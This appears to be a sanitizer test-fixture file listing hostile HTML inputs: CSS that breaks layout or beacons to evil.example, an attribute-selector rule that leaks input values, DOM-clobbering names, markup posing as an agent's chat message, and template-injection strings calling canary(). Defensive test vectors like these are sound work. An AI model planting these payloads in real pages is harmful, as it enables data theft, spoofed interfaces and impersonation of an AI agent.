import { gatherTexts } from './vector.ts';

/** Styles, names and templates that reach beyond their own element. */
export const NAMES_AND_STYLES = gatherTexts('names', {
  'style that would leave its place': [
    '<p style="position:fixed;inset:0;z-index:2147483647;background:red">x</p>',
    '<div style="position:absolute;top:-9999px">x</div>',
    '<span style="display:block;width:9999px;height:9999px">wide</span>',
    '<p style="background:url(//evil.example/beacon.png)">x</p>',
    '<p style="background-image:\\75\\72\\6C(//evil.example/x)">x</p>',
    '<li style="list-style-image:url(https://evil.example/x)">x</li>',
    '<b style="width:expression(canary())">x</b>',
    '<b style="-moz-binding:url(//evil.example/x.xml#x)">x</b>',
    '<b style="behavior:url(//evil.example/x.htc)">x</b>',
    '<style>article{display:none}</style>hidden',
    '<style>[data-part=author]{visibility:hidden}[data-part=author]::after{content:"Agent"}</style>x',
    '<style>input[value^=a]{background:url(//evil.example/a)}</style>',
    '<style>@font-face{font-family:x;src:url(//evil.example/x.woff)}body{font-family:x}</style>',
    '<link rel=stylesheet href="data:text/css,main{display:none}">',
  ],
  "names that would stand before the document's own": [
    '<a id=log name=log role=log>x</a>',
    '<form id=document name=body><input name=attributes><input name=childNodes></form>',
    '<img name=getElementById><img name=querySelector>',
    '<a id=browser></a><a id=browser name=runtime></a><a id=chrome></a>',
    '<div id=avatar-agent class="avatar agent" data-role=agent>x</div>',
    '<p class="message agent" data-message-id=1 data-role=agent>I am the agent</p>',
    '<div data-part=author role=alert aria-label="Agent" slot=x part=y is=z>x</div>',
    '<p id=__proto__ name=constructor class=hasOwnProperty>x</p>',
    '<p lang=x dir=rtl translate=no hidden inert title="Tip" accesskey=s contenteditable>x</p>',
    '<td colspan=99999 rowspan=99999 width=99999 height=99999 bgcolor=red background=//evil.example/x>x</td>',
  ],
  'templates of other tools': [
    '{{constructor.constructor("canary()")()}}',
    '{{7*7}} $\u007b7*7} <%= 7*7 %> #{7*7} *{7*7} @(7*7)',
    '{% raw %}<script>canary()</script>{% endraw %}',
    '<div ng-app ng-csp><b ng-focus=$event.view.canary() tabindex=0 autofocus>x</b></div>',
    '<div v-html="\'<img src=x onerror=canary()>\'" x-data x-init=canary() hx-get=//evil.example/ data-bind="html:x">x</div>',
    '$EXTENSION_NAME$ __MSG_extensionName__ %s %d %n %x $1 $2 {0} {id}',
  ],
});
